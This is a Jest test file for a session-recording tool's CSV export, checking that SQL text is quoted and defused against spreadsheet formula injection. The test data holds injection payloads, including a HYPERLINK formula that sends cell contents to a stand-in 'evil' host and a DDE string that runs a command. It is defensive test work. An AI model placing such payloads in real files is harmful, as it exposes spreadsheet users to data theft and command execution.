import { describe, expect, it } from '@jest/globals';
import type { IndexStatement, SessionRecord, SessionSummary, VerifyReport } from '@snowtrail/recording';
import { CSV_HEADER, exportCsv } from './export-csv.js';
import { memorySink } from './sink.js';

const summary: SessionSummary = { sessionId: '20261126T100000Z-0123456789abcdef', kind: 'session', startedAt: '2026-11-26T10:00:00.000Z', lastEventAt: '2026-11-26T10:01:00.000Z', status: 'ended', identity: { namespace: 'pipelines', podName: 'etl-1', serviceAccount: 'etl' }, statementCount: 7, eventCount: 9 };
const verification: VerifyReport = { sessionId: summary.sessionId, ok: true, problems: [], digests: 1, segments: 1, events: 9, keyIds: ['k'] };

async function csvOf(statements: IndexStatement[], records: SessionRecord[] = []): Promise<string[]> {
  const { sink, text } = memorySink();
  await exportCsv({ summary, statements, verification, generatedAt: '2026-11-26T12:00:00.000Z', records: async function* () { yield* records; } }, sink);
  return text().split('\r\n');
}

describe('CSV export', () => {
  it('defuses statement text that a spreadsheet would run as a formula (=, +, -, @, tab, CR)', async () => {
    const attacks = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const lines = await csvOf(attacks.map((sqlText, i) => ({ seq: i, sqlText, decision: 'allow', status: 'success' })));
    expect(lines[0]).toBe(CSV_HEADER.join(','));
    const prefix = (seq: number): string => `${summary.sessionId},${seq},,,pipelines,etl-1,etl,allow,,,success,,,,,,,`;
    expect(lines.slice(1, 1 + attacks.length)).toEqual([
      `${prefix(0)}"'=HYPERLINK(""http://evil/?""&A1,""x"")"`,
      `${prefix(1)}'+1+cmd|' /C calc'!A0`,
      `${prefix(2)}'-2+3`,
      `${prefix(3)}'@SUM(A1:A9)`,
      `${prefix(4)}'\t=1+1`,
      `${prefix(5)}"'\r=1+1"`,
    ]);
  });

  it('quotes commas, quotes and newlines, and carries the rule and reason of a denial from its event', async () => {
    const denied: SessionRecord = { kind: 'event', event: { version: 1, sessionId: summary.sessionId, seq: 4, time: summary.startedAt, type: 'query.denied', prevHash: '0'.repeat(64), data: { requestId: 'r', sqlText: 'drop table a, b', statements: [], decision: 'deny', rule: 'no-ddl', reason: 'statement_denied' } } };
    const lines = await csvOf([{ seq: 4, sqlText: 'drop table a, b\n-- "why"', decision: 'deny', status: 'denied', classes: ['DROP'] }], [denied]);
    expect(lines[1]).toBe(`${summary.sessionId},4,,,pipelines,etl-1,etl,deny,no-ddl,statement_denied,denied,,,,DROP,,,"drop table a, b\n-- ""why"""`);
  });
});
